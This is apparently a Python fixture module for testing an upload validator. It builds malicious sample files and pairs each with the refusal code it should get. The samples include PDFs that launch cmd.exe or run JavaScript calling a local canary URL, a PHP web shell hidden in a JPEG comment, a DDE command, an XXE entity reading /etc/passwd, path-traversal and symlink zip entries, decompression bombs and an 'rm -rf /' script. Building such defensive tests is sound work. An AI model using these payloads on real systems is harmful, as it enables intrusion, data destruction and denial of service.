"""Files that somebody means ill with, made here, each small. Whatever they fetch, they fetch from `AWAY`."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from typing import Any

import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name
from PIL import Image

AWAY = "http://127.0.0.1:{port}/kanari"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
DOCUMENT = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"'
    ' TargetMode="External"/></Relationships>'
)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
Change = Callable[[pikepdf.Pdf], object]


def paper(change: Change | None = None, pages: int = 1, **how: Any) -> bytes:
    """A small PDF, with something done to it."""
    made = pikepdf.new()
    for _page in range(pages):
        made.add_blank_page()
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **how)
    return out.getvalue()


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), **how: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (90, 40, 20)).save(out, kind, **how)
    return out.getvalue()


def heic(size: tuple[int, int] = (64, 48)) -> bytes:
    out = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", size, (90, 40, 20))).save(out)
    return out.getvalue()


def word(parts: dict[str, str | bytes] | None = None, **replaced: str) -> bytes:
    """A Word document with further parts."""
    out = io.BytesIO()
    standing = {
        "[Content_Types].xml": replaced.get("types", TYPES),
        "word/document.xml": replaced.get("body", DOCUMENT),
    }
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as box:
        for name, content in (standing | (parts or {})).items():
            box.writestr(name, content)
    return out.getvalue()


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as box:
        box.writestr("a.txt", "a")
    return out.getvalue()


def action(kind: str, **more: Any) -> bytes:
    """A PDF that does something when it is opened."""
    return paper(lambda made: setattr(made.Root, "OpenAction", Dictionary(S=Name(f"/{kind}"), **more)))


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(wide: int, high: int, packed: bytes = b"") -> bytes:
    """A PNG of which the header says this size, and nothing fits."""
    head = struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def _attached(made: pikepdf.Pdf) -> None:
    made.attachments["run.exe"] = b"MZ\x90\0"


def _on_page(made: pikepdf.Pdf) -> None:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(S=Name.Launch, F="cmd.exe"))
    made.pages[0].Annots = Array([link])


def _in_field(made: pikepdf.Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=made.make_stream(b"app.launchURL('x')"))
    field = made.make_indirect(Dictionary(FT=Name.Tx, T="a", AA=Dictionary(K=script)))
    made.Root.AcroForm = Dictionary(Fields=Array([field]))


def _xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array(), XFA=made.make_stream(b"<xdp/>"))


def _loop(made: pikepdf.Pdf) -> None:
    made.Root.Pages.Kids.append(made.Root.Pages)


def _many_pages(made: pikepdf.Pdf) -> None:
    """A tree in which each of six levels names the next one ten times: a million pages in a few lines."""
    node: Any = made.pages[0].obj
    for _level in range(6):
        node = made.make_indirect(Dictionary(Type=Name.Pages, Kids=Array([node] * 10), Count=10))
    made.Root.Pages = node


def raw(objects: list[bytes]) -> bytes:
    """A PDF of these objects as they are, the first being its catalog: pikepdf takes long for many."""
    out, at = bytearray(b"%PDF-1.7\n"), []
    for number, one in enumerate(objects, start=1):
        at.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % start for start in at)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(at) + 1)
    tail = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(at) + 1, len(out))
    return bytes(out) + head + table + tail


def many_objects(number: int) -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    tree = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    return raw([b"<</Type/Catalog/Pages 2 0 R>>", tree, page, *[b"<</A 1>>"] * number])


def many_pages(number: int) -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    kids = b" ".join(b"%d 0 R" % (at + 3) for at in range(number))
    tree = b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, number)
    return raw([b"<</Type/Catalog/Pages 2 0 R>>", tree, *[page] * number])


def zeros(megabytes: int) -> bytes:
    """So many megabytes of zeros, deflated, without deflating them: one block again and again."""
    packer = zlib.compressobj(9)
    first = packer.compress(bytes(1024**2)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(1024**2)) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.flush()[:-4]
    length = megabytes * 1024**2
    return first + again * (megabytes - 1) + end + struct.pack(">HH", length % 65521, 1)


def object_stream_bomb() -> bytes:
    """A PDF of some kilobytes whose directory unpacks to a gigabyte."""
    twice = zlib.compress(zeros(1024), 9)
    head = b"%PDF-1.5\n"
    body = (
        b"1 0 obj\n<</Type/XRef/W[1 2 1]/Size 99999999/Root 2 0 R/Filter[/FlateDecode/FlateDecode]"
        b"/Length %d>>\nstream\n" % len(twice)
    )
    return head + body + twice + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)


def word_bomb() -> bytes:
    return word({f"word/media/{number}.bin": bytes(20 * 1024**2) for number in range(8)})


def _link() -> bytes:
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as box:
        one = zipfile.ZipInfo("word/media/passwd")
        one.external_attr = 0o120777 << 16
        box.writestr(one, "/etc/passwd")
    return out.getvalue()


def _locked_word() -> bytes:
    content = bytearray(word())
    for start in (b"PK\x03\x04", b"PK\x01\x02"):
        content[content.find(start) + (6 if start == b"PK\x03\x04" else 8)] |= 1
    return bytes(content)


@cache
def files(port: int) -> dict[str, tuple[str, bytes, str]]:
    """What it is: the name of the file, its content, and the code with which it is refused."""
    return {says: (name, content, code) for says, name, content, code in _all(AWAY.format(port=port))}


def _all(away: str) -> Iterator[tuple[str, str, bytes, str]]:
    yield from _papers(away)
    yield from _pictures()
    yield from _words(away)
    yield from _others(away)


def _papers(away: str) -> Iterator[tuple[str, str, bytes, str]]:
    yield "script when opened", "a.pdf", action("JavaScript", JS=f"app.launchURL('{away}')"), "script"
    yield "script of a field, in a stream", "a.pdf", paper(_in_field), "script"
    yield "script among packed objects", "a.pdf", paper(
        _in_field, object_stream_mode=pikepdf.ObjectStreamMode.generate
    ), "script"  # fmt: skip
    yield "starts a program when opened", "a.pdf", action("Launch", F="cmd.exe"), "launch"
    yield "starts a program at a click", "a.pdf", paper(_on_page), "launch"
    yield "sends a form when opened", "a.pdf", action("SubmitForm", F=away), "action"
    yield "fetches data when opened", "a.pdf", action("ImportData", F=away), "action"
    yield "opens another file", "a.pdf", action("GoToR", F=away, D=0), "action"
    yield "program attached", "a.pdf", paper(_attached), "attached"
    yield "form of the XFA kind", "a.pdf", paper(_xfa), "form"
    yield "plays a film", "a.pdf", action("Rendition"), "media"
    lock = pikepdf.Encryption(owner="x", user="y", R=6)
    yield "locked with a password", "a.pdf", paper(encryption=lock), "locked"
    lock = pikepdf.Encryption(owner="x", user="", R=6)
    yield "locked with the owner's password alone", "a.pdf", paper(encryption=lock), "locked"
    whole = paper()
    yield "cut in the middle", "a.pdf", whole[: len(whole) // 2], "cut"
    yield (
        "a beginning and an end, and noise between",
        "a.pdf",
        b"%PDF-1.7\n" + bytes(range(256)) * 9 + b"%%EOF",
        "broken",
    )
    yield "pages that are their own parents", "a.pdf", paper(_loop), "broken"
    yield "a million pages", "a.pdf", paper(_many_pages), "broken"
    yield "1,600 pages", "a.pdf", many_pages(1600), "pages"
    yield "160,000 objects", "a.pdf", many_objects(160_000), "too_much"
    yield "a directory that unpacks to a gigabyte", "a.pdf", object_stream_bomb(), "broken"
    yield "PDF and archive at once", "a.pdf", whole + archive(), "two_in_one"
    yield "PDF and web page at once", "a.pdf", whole + b"<html><script>x</script>", "two_in_one"
    yield "web page first, then PDF", "a.pdf", b"<!-- " + whole + b" -->", "web_page"
    yield "noise first, then PDF", "a.pdf", b"GG" * 40 + whole, "two_in_one"


def _pictures() -> Iterator[tuple[str, str, bytes, str]]:
    yield "JPEG and Java archive at once", "a.jpg", picture() + archive(), "two_in_one"
    yield "PNG and archive at once", "a.png", picture("PNG") + archive(), "two_in_one"
    yield "PNG with something behind it", "a.png", picture("PNG") + b"secret", "two_in_one"
    comment = b"<?php system($_GET['c']); ?>"
    yield "JPEG with a program of a web server", "a.jpg", picture(comment=comment), "two_in_one"
    yield "HEIC with a script", "a.heic", heic() + b"<script>", "two_in_one"
    yield "PNG that unpacks to 412 MB", "a.png", png(12_000, 12_000, zeros(412)), "pixels"
    yield "PNG with fewer lines than it says", "a.png", png(64, 10_000, zeros(1)), "broken_picture"
    yield "PNG whose header says 2 billion by 2 billion", "a.png", png(2**31 - 1, 2**31 - 1), "pixels"
    yield "JPEG whose header says 65,500 by 65,500", "a.jpg", _claims(65_500), "pixels"
    yield "JPEG cut in the middle", "a.jpg", picture(size=(640, 480), quality=95)[:1500], "broken_picture"
    yield "PNG cut in the middle", "a.png", picture("PNG", (640, 480))[:200], "broken_picture"
    yield "damaged HEIC", "a.heic", heic()[:300] + bytes(200), "broken_picture"


def _claims(side: int) -> bytes:
    """A JPEG whose header says that it is so wide and high."""
    made = bytearray(picture())
    at = made.find(b"\xff\xc0")
    made[at + 5 : at + 9] = struct.pack(">HH", side, side)
    return bytes(made)


def _words(away: str) -> Iterator[tuple[str, str, bytes, str]]:
    macros = TYPES.replace("wordprocessingml.document.main", "ms-word.document.macroEnabled.main")
    yield "Word with macros", "a.docx", word({"word/vbaProject.bin": b"x"}), "macros"
    yield "Word with macros, by what it says of itself", "a.docx", word(types=macros), "macros"
    template = RELATION.format(kind="attachedTemplate", target=away)
    yield "Word with a template elsewhere", "a.docx", word({"word/_rels/settings.xml.rels": template}), "fetches"
    image = RELATION.format(kind="image", target=away)
    yield "Word with a picture elsewhere", "a.docx", word({"word/_rels/document.xml.rels": image}), "fetches"
    dde = DOCUMENT.replace("<w:body/>", "<w:body><w:instrText>DDEAUTO c:\\\\cmd.exe x</w:instrText></w:body>")
    yield "Word that starts a program (DDE)", "a.docx", word(body=dde), "fetches"
    entity = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + DOCUMENT
    yield "Word with an entity", "a.docx", word(body=entity), "broken_word"
    yield "Word that unpacks to 160 MB", "a.docx", word_bomb(), "too_much"
    yield "Word with a path upwards", "a.docx", word({"../../etc/cron.d/x": "x"}), "paths"
    yield "Word with an absolute path", "a.docx", word({"/etc/x": "x"}), "paths"
    yield "Word with a symbolic link", "a.docx", _link(), "paths"
    yield "Word in Word", "a.docx", word({"word/media/a.png": word()}), "packed"
    yield "Word with a spreadsheet inside", "a.docx", word({"word/embeddings/a.bin": "x"}), "packed"
    yield "Word with a password", "a.docx", _locked_word(), "locked"
    yield "Word with something behind it", "a.docx", word() + b"MZ" * 50, "two_in_one"
    yield "Word, damaged", "a.docx", word()[:-60] + bytes(60), "broken_word"


def _others(away: str) -> Iterator[tuple[str, str, bytes, str]]:
    yield "nothing", "a.pdf", b"", "empty"
    yield "blanks and zeros", "a.pdf", b"\0 \n" * 500, "empty"
    yield "web page called PDF", "a.pdf", b"<!DOCTYPE html><img src='%b'>" % away.encode(), "web_page"
    yield "drawing with a script called PNG", "a.png", b"<svg onload='fetch(1)'>", "web_page"
    yield "XML called PDF", "a.pdf", b"<?xml version='1.0'?><a/>", "web_page"
    yield "virus test text called PDF", "a.pdf", EICAR, "unknown"
    yield "program called PDF", "a.pdf", b"MZ\x90\0" + bytes(99), "program"
    yield "program of Linux", "a", b"\x7fELF" + bytes(99), "program"
    yield "script of a shell", "a.pdf", b"#!/bin/sh\nrm -rf /", "program"
    yield "archive called Word", "a.docx", archive(), "archive"
    yield "GIF", "a.gif", picture("GIF"), "gif"
    yield "WebP", "a.webp", picture("WEBP"), "webp"
    yield "TIFF", "a.tiff", picture("TIFF"), "tiff"
    yield "old Word", "a.doc", b"\xd0\xcf\x11\xe0" + bytes(600), "old_office"
    yield "film", "a.mp4", b"\0\0\0\x18ftypmp42" + bytes(99), "video"
    yield "PDF that ends as a program", "order.pdf.exe", paper(), "name_starts"
    yield "PDF called JPEG", "a.jpg", paper(), "name_other"
    yield "PNG called PDF", "a.pdf", picture("PNG"), "name_other"
    yield "JPEG called a web page", "a.html", picture(), "name_starts"
    yield "one byte more than 30 MB", "a.pdf", b"%PDF-" + bytes(30 * 1024**2 - 4), "too_large"
